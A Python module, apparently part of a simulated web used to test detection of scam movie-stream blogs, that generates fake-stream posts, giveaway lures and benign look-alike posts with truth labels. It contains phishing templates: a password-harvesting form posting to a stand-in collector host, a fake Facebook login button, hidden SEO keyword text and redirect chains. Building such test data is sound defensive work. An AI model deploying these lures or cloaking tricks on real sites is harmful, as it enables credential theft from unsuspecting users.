"""Post bodies of the replica's world: fake streams, lure posts and hard negatives, with their truth inputs.

Each ``draft_*`` function returns a :class:`Draft`; :mod:`replica.content` turns drafts into posts and
computes the truth from the landing pages the draft links to. Variety comes from round-robin counters (so
every variant appears at scale 1) rather than from chance.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable
from dataclasses import dataclass, field

from replica._content_landings import HOSTILE_KINDS, SHORTENERS, LandingBook, tumblr_wrap
from replica._content_pages import LURE_PAGES, Film, code_for
from replica._content_text import DISGUISES, LANGUAGES, disguise, html_escape
from replica._content_watchlist import SearchPhrasings
from replica.dataset import Blog

__all__ = ["CRIMINAL_KINDS", "FAN_KINDS", "Draft", "Drafter", "PostSlot"]


@dataclass
class Draft:
    """A post before it gets its truth: what it shows, links to, and pretends to be."""

    kind: str
    film: Film
    title: str
    body: str
    tags: list[str]
    outbound: list[str]
    language: str
    fake_stream: bool = False  # pretends to stream ``film``
    embedded_lure: bool = False  # the post itself carries a sign-in/payment trap
    note: str = ""


@dataclass(frozen=True)
class PostSlot:
    """Where a post will live: its blog, id and language (known before the body is written)."""

    blog: Blog
    post_id: str
    language: str


@dataclass
class _Cycles:
    counters: dict[str, itertools.count[int]] = field(default_factory=dict)

    def pick(self, name: str, options: tuple[str, ...] | list[str]) -> str:
        counter = self.counters.setdefault(name, itertools.count())
        return options[next(counter) % len(options)]


# How a fake-stream post's main link reaches its target (round robin over all stream posts).
LINK_PLANS: tuple[str, ...] = (
    "lure",
    "shortener_lure",
    "lure_js",
    "ad_player",
    "meta_chain_lure",
    "lure",
    "imdb_and_lure",
    "chain5_lure",
    "hostile",
    "lure",
    "chain7_lure",
    "robots_lure",
    "shortener_lure",
    "js_redirect_benign",
    "lure",
    "loop_via_shortener",
    "dead_link",
    "lure_js",
    "http_meta_lure",
    "trailer_and_ad_player",
)
NEEDS_JS_LURES = tuple(v for v, (_, js, _) in LURE_PAGES.items() if js)
STATIC_PLAYER_LURES = tuple(v for v, (_, js, player) in LURE_PAGES.items() if player and not js)
LOGIN_LURES = ("lookalike_login", "oauth_google", "brand_clone", "oauth_microsoft", "telegram_exfil")

CRIMINAL_KINDS = (
    "stream",
    "stream",
    "stream",
    "lure_only",
    "stream",
    "stream",
    "embedded_lure",
    "stream",
    "unwatched",
    "stream",
    "near_miss_stream",
    "stream",
)
FAN_KINDS = (
    "review",
    "trailer",
    "box_office",
    "streaming_news",
    "fan_art",
    "scam_warning",
    "legit_links",
    "comment_widget",
    "legit_signin",
    "near_miss_review",
    "review",
)

_IMG_HOSTS = ("https://i.imgur.com", "https://i.ibb.co", "https://image.tmdb.org/t/p/w500")


class Drafter:
    """Writes post drafts, creating the landing pages they link to in ``book``."""

    def __init__(self, book: LandingBook, plan: SearchPhrasings, rng: random.Random) -> None:
        self.book = book
        self.plan = plan
        self.rng = rng
        self.cycles = _Cycles()

    # --- helpers ---------------------------------------------------------------------------------------
    def _href(self, url: str, slot: PostSlot) -> str:
        """The href as it appears in the body: Tumblr-wrapped on half of Tumblr's posts (the replica's Tumblr
        wraps the rest when serving) and on some others' (spammers paste links copied from Tumblr)."""
        wrap_every = 2 if slot.blog.platform == "tumblr" else 7
        if int(slot.post_id) % wrap_every == 0:
            url = tumblr_wrap(url, slot.post_id, slot.blog.blog_id)
        return html_escape(url)

    def _play_button(self, url: str, slot: PostSlot, film: Film, cta: str) -> str:
        img = f"{self.cycles.pick('img', _IMG_HOSTS)}/{code_for('img', film.title, slot.post_id)}.png"
        href = self._href(url, slot)
        return (
            f'<p><a href="{href}" target="_blank" rel="nofollow"><img src="{img}" alt="Play {film.shown}" '
            'width="640" height="360"></a></p>\n<p '
            f'style="text-align:center"><a href="{href}"><b>{cta}</b></a></p>'
        )

    def _search_words(self, film: Film) -> str:
        """The SEO line spammers add so searches find a post whose title is disguised."""
        phrases = [
            *(self._expand(q, film) for q in self.plan.queries),
            f"{film.title} streaming",
            f"{film.title} free download",
        ]
        text = html_escape(", ".join(phrases))
        style = self.cycles.pick("kwstyle", ("visible", "hidden", "tiny"))
        if style == "hidden":
            return f'<div style="display:none">{text}</div>'
        if style == "tiny":
            return f'<p><span style="font-size:1px;color:#ffffff">{text}</span></p>'
        return f"<p>Keywords: {text}</p>"

    @staticmethod
    def _expand(phrasing: str, film: Film) -> str:
        return " ".join(phrasing.format(title=film.title, year=film.year or "").split())

    def _plan_tags(self, film: Film) -> list[str]:
        return [self._expand(t, film) for t in self.plan.tags]

    def _findable(self, film: Film, slot: PostSlot) -> tuple[list[str], str]:
        """Tags and SEO text so that at least one planned search finds the post on its platform."""
        blog = slot.blog
        tag_platform = blog.platform == "tumblr" or blog.kind == "wpcom"
        mode = self.cycles.pick(
            f"find-{tag_platform}",
            ("tag_first", "tag_last", "keywords") if tag_platform else ("keywords_tagged", "keywords"),
        )
        plan_tags = self._plan_tags(film)
        if mode == "tag_first":
            return [plan_tags[0]], ""
        if mode == "tag_last":
            return [plan_tags[-1]], ""
        keywords = self._search_words(film)
        return (plan_tags[:1] if mode == "keywords_tagged" else []), keywords

    def _spam_tags(self, film: Film, lang: str) -> list[str]:
        extra = {
            "fr": "film complet",
            "es": "pelicula completa",
            "de": "ganzer film",
            "pt": "filme completo",
            "id": "nonton film",
            "it": "film completo",
            "tr": "full izle",
            "vi": "xem phim",
            "ru": "смотреть онлайн",
        }
        return [
            f"{film.title.lower()} {film.year_text}".strip(),
            "free movies",
            "streaming",
            extra.get(lang, "hd movies"),
        ]

    # --- fake streams ------------------------------------------------------------------------------------
    def _stream_targets(self, film: Film, slot: PostSlot) -> tuple[list[str], str]:
        """(links in the body, note) for one fake-stream post, following :data:`LINK_PLANS`."""
        b = self.book
        plan = self.cycles.pick("linkplan", LINK_PLANS)

        def lure() -> str:  # picked only when used, so every variant gets its turn
            return b.lure(self.cycles.pick("lure", STATIC_PLAYER_LURES), film)

        def short(url: str) -> str:
            return b.shortened(url, self.cycles.pick("short", SHORTENERS))

        targets: dict[str, Callable[[], list[str]]] = {
            "lure": lambda: [lure()],
            "lure_js": lambda: [b.lure(self.cycles.pick("jslure", NEEDS_JS_LURES), film)],
            "shortener_lure": lambda: [short(lure())],
            "meta_chain_lure": lambda: [short(b.meta_refresh(lure()))],
            "http_meta_lure": lambda: [b.meta_refresh(lure()).replace("https://", "http://", 1)],
            "chain5_lure": lambda: [b.chain(lure(), 5)],
            "chain7_lure": lambda: [b.chain(lure(), 7)],
            "imdb_and_lure": lambda: [b.benign("imdb", film), lure()],
            "ad_player": lambda: [b.benign("ad_player", film)],
            "trailer_and_ad_player": lambda: [b.benign("youtube_watch", film), b.benign("ad_player", film)],
            "hostile": lambda: [b.hostile(self.cycles.pick("hostile", HOSTILE_KINDS))],
            "robots_lure": lambda: [b.robots_blocked_lure(film)],
            "js_redirect_benign": lambda: [b.js_redirect(b.benign("cinema", film))],
            "loop_via_shortener": lambda: [short(b.hostile("redirect_loop"))],
            "dead_link": lambda: [
                f"https://{code_for('dead', film.title).lower()}.removed-site.example/{film.slug}"
            ],
        }
        urls = targets[plan]()
        if plan == "http_meta_lure":  # register the http:// spelling too: Landing.url is the URL as linked
            src = b.landings[urls[0].replace("http://", "https://", 1)]
            b.landings.setdefault(urls[0], type(src)(**{**src.__dict__, "url": urls[0]}))
        return urls, f"link: {plan}"

    def draft_stream(self, film: Film, slot: PostSlot) -> Draft:
        phrases = LANGUAGES[slot.language]
        kind = self.cycles.pick("disguise", DISGUISES)
        shown = disguise(kind, film.title, film.year, film.aliases)
        title = self.cycles.pick(f"headline-{slot.language}", phrases.headlines).format(
            t=shown, y=film.year_text
        )
        intro = self.cycles.pick(f"intro-{slot.language}", phrases.intros).format(t=shown, y=film.year_text)
        urls, link_note = self._stream_targets(film, slot)
        tags, keywords = self._findable(film, slot)
        body = [f"<p>{intro}</p>", self._play_button(urls[0], slot, film, phrases.cta)]
        body += [f'<p><a href="{self._href(u, slot)}">Server {i + 2}</a></p>' for i, u in enumerate(urls[1:])]
        if keywords:
            body.append(keywords)
        return Draft(
            "stream",
            film,
            title,
            "\n".join(body),
            tags + self._spam_tags(film, slot.language),
            urls,
            slot.language,
            fake_stream=True,
            note=f"fake stream; disguise: {kind}; {link_note}",
        )

    def draft_lure_only(self, film: Film, slot: PostSlot) -> Draft:
        """A giveaway / free-account post: not a fake stream, but its link is a sign-in trap."""
        phrases = LANGUAGES[slot.language]
        url = self.book.lure(self.cycles.pick("loginlure", LOGIN_LURES), film)
        if self.cycles.pick("lureonly-short", ("direct", "short")) == "short":
            url = self.book.shortened(url, self.cycles.pick("short", SHORTENERS))
        # no stream claims and no SEO stuffing: found by its plain title tag, or (where only free-text search
        # exists) by its premiere wording, which happens to contain the words of "{title} full movie"
        has_tags = slot.blog.platform == "tumblr" or slot.blog.kind == "wpcom"
        tags = [self._plan_tags(film)[-1]] if has_tags else [film.title.lower()]
        premiere = "" if has_tags else f"<p>Tickets for the {film.shown} full movie premiere!</p>\n"
        body = (
            f"<p>{phrases.lure_giveaway.format(t=film.shown)}</p>\n{premiere}"
            f'<p><a href="{self._href(url, slot)}">&#127873; ENTER NOW / LOG IN</a></p>'
        )
        return Draft(
            "lure_only",
            film,
            f"&#127873; {film.shown} giveaway",
            body,
            [*tags, "giveaway", "free tickets"],
            [url],
            slot.language,
            note="lure post (giveaway), not a fake stream",
        )

    def draft_embedded_lure(self, film: Film, slot: PostSlot) -> Draft:
        """A fake stream whose sign-in trap sits in the post itself."""
        draft = self.draft_stream(film, slot)
        style = self.cycles.pick("embedded", ("form", "facebook"))
        if style == "form":
            action = "https://collect.stream-now.xyz/gate.php"
            trap = (
                f'<form action="{action}" method="post"><p>Log in to unlock the HD stream</p>'
                '<input type="email" name="email" placeholder="Email"><input type="password" name="password">'
                "<button>Sign in with Google</button></form>"
            )
        else:
            action = self.book.lure("lookalike_login", film)
            trap = (
                f'<p><a class="fb-login-button" href="{html_escape(action)}" '
                'style="background:#1877f2;color:#fff">'
                "Continue with Facebook to watch</a></p>"
            )
        draft.body = f"{trap}\n{draft.body}"
        draft.outbound = [action, *draft.outbound]
        draft.kind, draft.embedded_lure = "embedded_lure", True
        draft.note = f"lure embedded in the post ({style}); " + draft.note
        return draft

    def draft_unwatched(self, film: Film, slot: PostSlot) -> Draft:
        """A fake stream for a film that is not on the watchlist: links never lead to a lure."""
        phrases = LANGUAGES[slot.language]
        title = phrases.headlines[0].format(t=film.shown, y=film.year_text)
        target = self.cycles.pick("unwatched-target", ("ad_player", "hostile", "imdb"))
        url = (
            self.book.hostile(self.cycles.pick("hostile", HOSTILE_KINDS))
            if target == "hostile"
            else self.book.benign(target, film)
        )
        body = (
            f"<p>{phrases.intros[0].format(t=film.shown, y=film.year_text)}</p>\n"
            f"{self._play_button(url, slot, film, phrases.cta)}\n<p>{film.shown} "
            f"full movie, watch {film.shown} "
            f"{film.year_text} online</p>"
        )
        tags = [f"{film.title} full movie", film.title, "free movies"]
        return Draft(
            "unwatched",
            film,
            title,
            body,
            tags,
            [url],
            slot.language,
            fake_stream=True,
            note=f"fake stream of an unwatched film ({target})",
        )

    def draft_near_miss_stream(self, film: Film, slot: PostSlot, watched: Film | None) -> Draft:
        """A fake stream of a sequel/prequel of a watched film (Iron Man 2 vs Iron Man 3): not a hit."""
        draft = self.draft_unwatched(film, slot)
        if watched is not None:  # mention the watched title so that its searches return this post too
            draft.body += (
                f"\n<p>Related: {watched.shown} ({watched.year_text}) is not on this server yet. "
                "Bookmark us!</p>"
            )
            draft.tags.append(watched.title.lower())
        draft.kind, draft.note = "near_miss_stream", f"near-miss title {film.title!r}; " + draft.note
        return draft

    # --- hard negatives ----------------------------------------------------------------------------------
    def _negative(
        self,
        kind: str,
        film: Film,
        slot: PostSlot,
        title: str,
        body: str,
        tags: list[str],
        urls: list[str],
        note: str,
    ) -> Draft:
        return Draft(kind, film, title, body, tags, urls, slot.language, note=note)

    def _link(self, url: str, slot: PostSlot, text: str) -> str:
        return f'<a href="{self._href(url, slot)}">{text}</a>'

    def draft_review(self, film: Film, slot: PostSlot) -> Draft:
        phrases = LANGUAGES[slot.language]
        imdb = self.book.benign(
            self.cycles.pick("review-link", ("imdb", "letterboxd_google", "wikipedia")), film
        )
        body = (
            f"<p>{phrases.review.format(t=film.shown)}</p>\n<p>It "
            "runs two and a half hours and honestly feels "
            "like a full movie&rsquo;s worth of ideas crammed "
            "in. The cast is great; the third act drags.</p>\n"
            f"<p>My rating: 4/5. More: {self._link(imdb, slot, film.shown)}</p>"
        )
        tags = [film.title, "review", "movies", "no spoilers"]
        return self._negative(
            "review", film, slot, f"{film.shown} review", body, tags, [imdb], "honest review"
        )

    def draft_trailer(self, film: Film, slot: PostSlot) -> Draft:
        phrases = LANGUAGES[slot.language]
        embed = self.book.benign("youtube_embed", film)
        watch = self.book.benign("youtube_watch", film)
        body = (
            f"<p>{phrases.trailer.format(t=film.shown)}</p>\n"
            f'<iframe width="560" height="315" src="{embed}" title="YouTube video player" frameborder="0" '
            "allowfullscreen></iframe>\n"
            f"<p>Watch the {film.shown} {film.year_text} trailer "
            f"online: {self._link(watch, slot, 'YouTube')}. "
            "In cinemas soon.</p>"
        )
        return self._negative(
            "trailer",
            film,
            slot,
            f"{film.shown} ({film.year_text}) &ndash; official trailer",
            body,
            [film.title, "trailer", f"{film.title} trailer"],
            [embed, watch],
            "trailer (YouTube embed)",
        )

    def draft_box_office(self, film: Film, slot: PostSlot) -> Draft:
        bom = self.book.benign("boxoffice", film)
        body = (
            f"<p>{film.shown} opened to $98.4 million this weekend, "
            f"the best opening of {film.year_text} so far. "
            f"Full numbers at {self._link(bom, slot, 'Box Office Mojo')}.</p>"
        )
        return self._negative(
            "box_office",
            film,
            slot,
            f"Box office: {film.shown} tops the weekend",
            body,
            [film.title, "box office"],
            [bom],
            "box office news",
        )

    def draft_streaming_news(self, film: Film, slot: PostSlot) -> Draft:
        news = self.book.benign("news", film)
        dplus = self.book.benign("disneyplus", film)
        body = (
            f"<p>Good news: {film.shown} is coming to streaming. "
            f"You can watch {film.shown} online legally on "
            f"{self._link(dplus, slot, 'Disney+')} from next month ({self._link(news, slot, 'Variety')}).</p>"
            "<p>Please don&rsquo;t fall for &ldquo;full movie&rdquo; links on blogs.</p>"
        )
        return self._negative(
            "streaming_news",
            film,
            slot,
            f"Where to watch {film.shown} online (legally)",
            body,
            [film.title, "streaming", "where to watch"],
            [dplus, news],
            "legit streaming news",
        )

    def draft_fan_art(self, film: Film, slot: PostSlot) -> Draft:
        art = self.book.benign("fan_art", film)
        media_key = code_for("fanart", film.title, slot.post_id, length=32)
        img = f"https://64.media.tumblr.com/{media_key}/s1280x1920/poster.jpg"
        body = (
            f'<figure><img src="{img}" alt="fan poster"></figure>\n<p>My {film.shown} fan poster! '
            f"Prints on {self._link(art, slot, 'DeviantArt')}. Can&rsquo;t wait for the full movie.</p>"
        )
        return self._negative(
            "fan_art",
            film,
            slot,
            f"{film.shown} fan poster",
            body,
            [film.title, "fan art", "digital art", "poster"],
            [art],
            "fan art",
        )

    def draft_scam_warning(self, film: Film, slot: PostSlot) -> Draft:
        warning = self.book.scam_warning(int(slot.post_id[-3:]))
        body = (
            f"<p>PSA: blogs promising &ldquo;{film.shown} full "
            "movie&rdquo; free streams are scams. They show a fake "
            "player and then say <q>Sign in with Facebook to "
            "continue watching</q> or <q>Create your FREE account "
            "to unlock the full movie</q>, or ask for a credit card &ldquo;to verify your age&rdquo;. "
            f"Never enter your password there. Read {self._link(warning, slot, 'this advice')}.</p>"
        )
        return self._negative(
            "scam_warning",
            film,
            slot,
            f"Warning: fake &ldquo;{film.shown} full movie&rdquo; links",
            body,
            [film.title, "scam", "phishing", "psa"],
            [warning],
            "scam warning quoting lure phrases",
        )

    def draft_legit_links(self, film: Film, slot: PostSlot) -> Draft:
        urls = [self.book.benign(v, film) for v in ("imdb", "youtube_watch", "cinema")]
        body = (
            f"<p>Everything you need before you watch {film.shown} ({film.year_text}): "
            f"{self._link(urls[0], slot, 'cast on IMDb')}, {self._link(urls[1], slot, 'the trailer')}, and "
            f"{self._link(urls[2], slot, 'tickets at ODEON')}. See the full movie on the big screen!</p>"
        )
        return self._negative(
            "legit_links",
            film,
            slot,
            f"Watch {film.shown} in cinemas: all the links",
            body,
            [film.title, f"{film.title} full movie", "cinema"],
            urls,
            "mentions title, legit links",
        )

    def draft_legit_signin(self, film: Film, slot: PostSlot) -> Draft:
        netflix = self.book.benign("netflix_signin", film)
        lbx = self.book.benign("letterboxd_google", film)
        body = (
            f"<p>{film.shown} is finally streaming. Sign in to your Netflix account at "
            f"{self._link(netflix, slot, 'netflix.com/login')} and log it on Letterboxd "
            f"({self._link(lbx, slot, 'Sign in with Google there')}).</p>"
        )
        return self._negative(
            "legit_signin",
            film,
            slot,
            f"{film.shown} is now on Netflix",
            body,
            [film.title, "netflix"],
            [netflix, lbx],
            "legit sign-in pages on their own domains",
        )

    def draft_near_miss_review(self, film: Film, slot: PostSlot, watched: Film | None) -> Draft:
        imdb = self.book.benign("imdb", film)
        also = f" before {watched.shown} arrives" if watched else ""
        body = (
            f"<p>Rewatched {film.shown} ({film.year_text}){also}. Still holds up.</p>"
            f"<p>{self._link(imdb, slot, 'IMDb')}</p>"
        )
        tags = [film.title, "rewatch", *([watched.title] if watched else [])]
        return self._negative(
            "near_miss_review",
            film,
            slot,
            f"Rewatching {film.shown}",
            body,
            tags,
            [imdb],
            f"near-miss title {film.title!r}, not watched",
        )

    def draft_comment_widget(self, film: Film, slot: PostSlot) -> Draft:
        """A review carrying the platform's own comment form with "Sign in with Google": not a lure."""
        draft = self.draft_review(film, slot)
        if slot.blog.platform == "blogger":
            widget, extra = _blogger_comment_widget(slot), [_BLOGGER_SIGNIN]
            self.book.add_google_signin(_BLOGGER_SIGNIN)
        elif slot.blog.platform == "wordpress":
            widget, extra = _wordpress_comment_widget(slot), []
        else:
            return draft
        draft.body += "\n" + widget
        draft.outbound += extra
        draft.kind, draft.note = "comment_widget", "platform's own comment widget with Sign in with Google"
        return draft


_BLOGGER_SIGNIN = (
    "https://accounts.google.com/ServiceLogin?service=blogger&continue="
    "https%3A%2F%2Fwww.blogger.com%2Fcomment%2Ffullpage"
)


def _blogger_comment_widget(slot: PostSlot) -> str:
    blog_id, host = slot.blog.blog_id, slot.blog.host
    return (
        '<div class="comments" id="comments"><h4>No comments:</h4><div class="comment-form">'
        f'<p class="comment-footer"><a href="{html_escape(_BLOGGER_SIGNIN)}">Sign '
        "in with Google</a> to comment.</p>"
        f'<a href="https://www.blogger.com/comment/fullpage/post/{blog_id}/{slot.post_id}" '
        'id="comment-editor-src"></a>'
        '<iframe allowtransparency="true" class="blogger-iframe-colorize '
        'blogger-comment-from-post" frameborder="0" '
        f'height="410px" id="comment-editor" name="comment-editor" src="https://www.blogger.com/comment/frame/{blog_id}'
        f'?po={slot.post_id}&amp;hl=en&amp;saa=85391&amp;origin=https://{host}&amp;skin=contempo" '
        'width="100%">'
        '</iframe><script src="https://www.blogger.com/static/v1/jsbin/2830521187-comment_from_post_iframe.js">'
        "</script></div></div>"
    )


def _wordpress_comment_widget(slot: PostSlot) -> str:
    blog = slot.blog
    base = f"https://{blog.host}"
    return (
        '<div id="respond" class="comment-respond"><h3 id="reply-title" '
        'class="comment-reply-title">Leave a comment</h3>'
        f'<form action="{base}/wp-comments-post.php" method="post" id="commentform" class="comment-form">'
        '<div class="comment-form__verbum"><div class="comment-form-service">Log in with '
        f'<a class="comment-form-service-google" href="https://public-api.wordpress.com/connect/?action=request&amp;'
        f'service=google&amp;blog_id={blog.blog_id}">Google</a> &middot; '
        '<a class="comment-form-service-wpcom" href="https://wordpress.com/log-in?redirect_to=https%3A%2F%2Fr-login.'
        'wordpress.com%2Fremote-login.php">WordPress.com</a> &middot; '
        '<a class="comment-form-service-facebook" href="https://public-api.wordpress.com/connect/?action=request&amp;'
        'service=facebook">Facebook</a></div>'
        '<textarea id="comment" name="comment" placeholder="Write a comment..."></textarea>'
        '<input id="email" name="email" type="email"><input id="author" name="author" type="text"></div>'
        f'<input type="hidden" name="comment_post_ID" value="{slot.post_id}" id="comment_post_ID">'
        '<input type="submit" id="comment-submit" value="Post Comment"></form></div>'
    )
